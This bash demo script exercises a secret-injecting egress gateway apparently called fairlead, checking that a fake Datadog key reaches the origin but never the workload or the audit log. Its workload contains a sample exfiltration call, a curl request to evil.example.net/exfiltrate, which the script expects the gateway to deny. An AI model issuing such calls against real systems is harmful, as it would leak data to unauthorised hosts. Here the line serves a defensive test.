#!/usr/bin/env bash
# The whole product on this machine: a command that holds no secret calls a service that wants one.
# Exits 0 only when everything it shows was seen. With --online it calls a public host in place of the stand-in.
set -euo pipefail
here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
out=$(cd "$here/../../out" && pwd)
online=${1:-}
case "$online" in '' | --online) ;; *) echo "demo: expected --online or nothing, got '$online'" >&2; exit 2 ;; esac

need() {
    local missing=()
    for tool in curl openssl python3; do command -v "$tool" >/dev/null || missing+=("$tool"); done
    [ ${#missing[@]} -eq 0 ] && return
    [ "$(id -u)" -eq 0 ] && command -v apt-get >/dev/null || { echo "demo: ${missing[*]} needed" >&2; exit 1; }
    apt-get update -qq >&2 && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends "${missing[@]}" ca-certificates >&2
}
need

work=$(mktemp -d)
origin=
cleanup() {
    [ -z "$origin" ] || { kill "$origin" 2>/dev/null; wait "$origin" 2>/dev/null; } || true
    rm -rf "$work"
}
trap cleanup EXIT
mkdir "$work/state"

title() { printf '\n== %s\n' "$*"; }
fail() { echo "demo: $*" >&2; exit 1; }

if [ "$online" = --online ]; then
    url=https://example.com/
    sed -e '/^upstream:/,$d' -e 's/hosts: \[api.datadoghq.com\]/hosts: [example.com]/' -e 's#api.datadoghq.com/#example.com/#' \
        "$here/fairlead.yaml" >"$work/fairlead.yaml"
else
    url=https://api.datadoghq.com/api/v1/validate
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj "/CN=Demo origin CA" \
        -keyout "$work/ca.key" -out "$work/state/origin-ca.pem" 2>/dev/null
    openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=api.datadoghq.com" -keyout "$work/origin.key" -out "$work/origin.csr" 2>/dev/null
    openssl x509 -req -in "$work/origin.csr" -CA "$work/state/origin-ca.pem" -CAkey "$work/ca.key" -days 1 -set_serial 1 \
        -extfile <(printf 'subjectAltName=DNS:api.datadoghq.com\nextendedKeyUsage=serverAuth\n') -out "$work/origin.pem" 2>/dev/null
    python3 "$here/origin.py" "$work/origin.pem" "$work/origin.key" "$work/received" >"$work/port" &
    origin=$!
    for _ in $(seq 100); do [ -s "$work/port" ] && break; sleep 0.1; done
    [ -s "$work/port" ] || fail "the origin did not start"
    sed "s/ORIGIN_PORT/$(cat "$work/port")/" "$here/fairlead.yaml" >"$work/fairlead.yaml"
fi

# Marked as fake for scanners and readers: no real key begins like this.
export DD_API_KEY=FAKE-datadog-key-for-the-demo

cat >"$work/workload.sh" <<TXT
env | sort >"$work/environment"
curl -sS "$url" >"$work/answer" || echo "curl failed with \$?" >>"$work/answer"
curl -sS -i https://evil.example.net/exfiltrate?data=1 >"$work/denied" || true
TXT

"$out/fairlead" run --local "$work/fairlead.yaml" -- sh "$work/workload.sh" 2>"$work/log" || { cat "$work/log" >&2; fail "fairlead run failed"; }

title "What the workload had: a proxy, a CA, and no secret"
grep -E '^(HTTPS_PROXY|https_proxy|SSL_CERT_FILE|CURL_CA_BUNDLE)=' "$work/environment"
if grep -q FAKE-datadog-key "$work/environment"; then fail "the secret was in the workload's environment"; fi
if grep -q '^DD_API_KEY=' "$work/environment"; then fail "DD_API_KEY was in the workload's environment"; fi
echo "DD_API_KEY is not in its environment"

title "What the workload got from $url"
head -c 600 "$work/answer"
if [ "$online" = --online ]; then
    if grep -q '^fairlead: ' "$work/answer"; then fail "the gateway could not reach $url from here; what it says is above"; fi
else
    grep -q '"valid": true' "$work/answer" || { cat "$work/log" >&2; fail "the origin did not accept the request"; }
    title "What the origin received: the injected header"
    cat "$work/received"
    grep -qi 'DD-API-KEY: FAKE-datadog-key-for-the-demo' "$work/received" || fail "the origin did not receive the header"
fi

title "What another host answered: a denial that explains itself"
cat "$work/denied"
grep -q '403' "$work/denied" && grep -qi '^Fairlead-Deny: default: deny' "$work/denied" || fail "the other host was not denied as it should be"

title "What the audit says"
cat "$work/state/audit.jsonl"
[ "$(grep -c '"type":"request"' "$work/state/audit.jsonl")" -eq 2 ] || fail "expected two requests in the audit"
if grep -q FAKE-datadog-key "$work/state/audit.jsonl"; then fail "the secret was in the audit"; fi
